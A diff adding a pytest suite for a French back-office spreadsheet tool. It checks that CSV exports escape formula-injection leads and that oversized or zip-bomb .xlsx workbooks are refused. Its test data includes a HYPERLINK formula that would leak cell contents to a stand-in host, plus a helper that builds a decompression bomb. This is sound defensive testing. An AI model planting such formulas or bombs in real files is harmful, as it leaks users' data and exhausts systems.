@@ -1,0 +1,133 @@
+"""Hostile input is normal input: findings or escaped output, never a traceback."""
+import csv
+import io
+import time
+import tracemalloc
+import zipfile
+
+import openpyxl
+import pytest
+from click.testing import CliRunner
+
+from backoffice.cli import cli
+from generators.call_list import write_call_list
+from generators.files import csv_bytes
+from generators.kit_orders import orders_csv
+from rules.kits import KitOrder
+from sheets_sync import MemoryBackend, Workbook
+from sheets_sync.changes import CELL_MAX, ChangeSet
+from sheets_sync.errors import WorkbookError
+from sheets_sync.xlsx_backend import XlsxBackend
+from tests.factories import make_tabs, write_xlsx
+from tests.mandates_helpers import cell, docx_text, ok, run, staffed
+
+HOSTILE = ['=HYPERLINK("http://x.invalid/?d="&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A2)",
+           "\t=1", "\r=1", "normal"]
+
+
+def _cells(data: bytes, delimiter=";"):
+    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter) for c in row]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_every_csv_we_write_escapes_formula_leads(tmp_path, value):
+    import datetime as dt
+
+    outputs = {
+        "csv_bytes": csv_bytes(["a"], [[value]]),
+        "call list": write_call_list(tmp_path / "appels.csv", [[value, value, value, value, "09:00", 5]]).read_bytes(),
+        "kit orders": orders_csv([KitOrder(value, value, value, value, value, value, value, value,
+                                           dt.date(2026, 12, 1), "S1", dt.date(2026, 12, 2))]),
+    }
+    for name, data in outputs.items():
+        for text in _cells(data):
+            assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (name, text)
+        if value != "normal":
+            assert "'" + value in _cells(data), name
+
+
+def test_a_300_character_mission_number_gives_a_safe_file_and_the_full_number_inside(tmp_path):
+    key = "M" + "9" * 299
+    backend = MemoryBackend(make_tabs(missions=[staffed(**{"N° mission": key})]))
+    result = ok(run(backend, tmp_path))
+    [path] = result.files
+    assert len(path.name) < 100 and path.name.startswith("M999") and path.exists()
+    assert key in docx_text(path)
+    assert cell(backend, key, "Mandat") == "Généré"
+
+
+def test_a_merged_job_cell_is_skipped_with_its_range_and_the_rest_goes_on(tmp_path):
+    path = tmp_path / "IDF.xlsx"
+    write_xlsx(path, make_tabs(missions=[{"N° mission": "M1", "Date": "02/12/2026"},
+                                         {"N° mission": "M2", "Date": "02/12/2026"}]))
+    book = openpyxl.load_workbook(path)
+    sheet = book["Missions"]
+    column = [c.value for c in sheet[1]].index("Suggestions") + 1
+    letter = openpyxl.utils.get_column_letter(column)
+    sheet.merge_cells(f"{letter}2:{letter}3")
+    book.save(path)
+    result = CliRunner().invoke(cli, ["--workbook", str(path), "--now", "2026-11-29 09:30", "suggest"])
+    assert result.exit_code in (0, 1), result.output
+    assert "Traceback" not in result.output
+    text = " ".join(result.output.split())
+    assert f"Missions!{letter}3" in text and f"cellule fusionnée (Missions!{letter}2:{letter}3)" in text
+    sheet = openpyxl.load_workbook(path)["Missions"]
+    assert sheet[f"{letter}2"].value  # the top-left cell is written
+
+
+def _bomb(path, size, long_text=False):
+    """A tiny .xlsx whose shared string unpacks to ``size`` characters."""
+    write_xlsx(path, make_tabs())
+    with zipfile.ZipFile(path) as src:
+        parts = {n: src.read(n) for n in src.namelist()}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
+        for name, data in parts.items():
+            if name != "xl/sharedStrings.xml":
+                out.writestr(name, data)
+        with out.open("xl/sharedStrings.xml", "w") as part:
+            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
+            chunk = b"a" * 1_000_000
+            for _ in range(size // len(chunk)):
+                part.write(chunk)
+            part.write(b"a" * (size % len(chunk)))
+            part.write(b"</t></si></sst>")
+
+
+def test_a_workbook_that_would_unpack_beyond_the_limit_is_refused_unread(tmp_path):
+    path = tmp_path / "bombe.xlsx"
+    _bomb(path, 30_000_000)
+    assert path.stat().st_size < 200_000
+    tracemalloc.start()
+    started = time.perf_counter()
+    with pytest.raises(WorkbookError) as err:
+        Workbook(XlsxBackend(path, max_unpacked=20_000_000)).load()
+    elapsed = time.perf_counter() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert str(err.value).startswith(f"{path} : classeur refusé, il occuperait 30 Mo une fois décompressé "
+                                     "(limite 20 Mo, réglage limits.xlsx_unpacked_mb). Rien n'a été lu.")
+    assert elapsed < 1.0 and peak < 50_000_000
+
+
+def test_a_cell_over_excels_limit_is_refused_before_parsing(tmp_path):
+    path = tmp_path / "long.xlsx"
+    _bomb(path, 40_000)
+    with pytest.raises(WorkbookError) as err:
+        Workbook(XlsxBackend(path)).load()
+    assert "une cellule contient un texte de plus de 32 767 caractères" in str(err.value)
+
+
+def test_a_50000_character_value_is_cut_to_what_a_cell_holds():
+    backend = MemoryBackend(make_tabs(missions=[{"N° mission": "M1"}]))
+    wb = Workbook(backend)
+    data = wb.load()
+    changes = ChangeSet()
+    changes.add("suggest", data["Missions"].change("M1", "Suggestions", "x" * 60_000))
+    changes.rewrite("check", "Anomalies", [["erreur", "r", "Missions", "Missions!A2", "M1", "y" * 70_000, ""]])
+    wb.apply(changes, __import__("datetime").datetime(2026, 11, 29, 9, 0))
+    written = backend.cell("Missions", "O2")
+    assert len(written) == CELL_MAX and written.endswith(" […]")
+    assert len(backend.tabs["Anomalies"][1][5]) == CELL_MAX
+    assert all(len(str(v)) <= CELL_MAX for row in backend.tabs["Journal"] for v in row)
+    again = wb.apply(ChangeSet(owned=dict(changes.owned)), __import__("datetime").datetime(2026, 11, 29, 9, 5))
+    assert again.journal_rows == 0  # the cut message is recognised: nothing rewritten
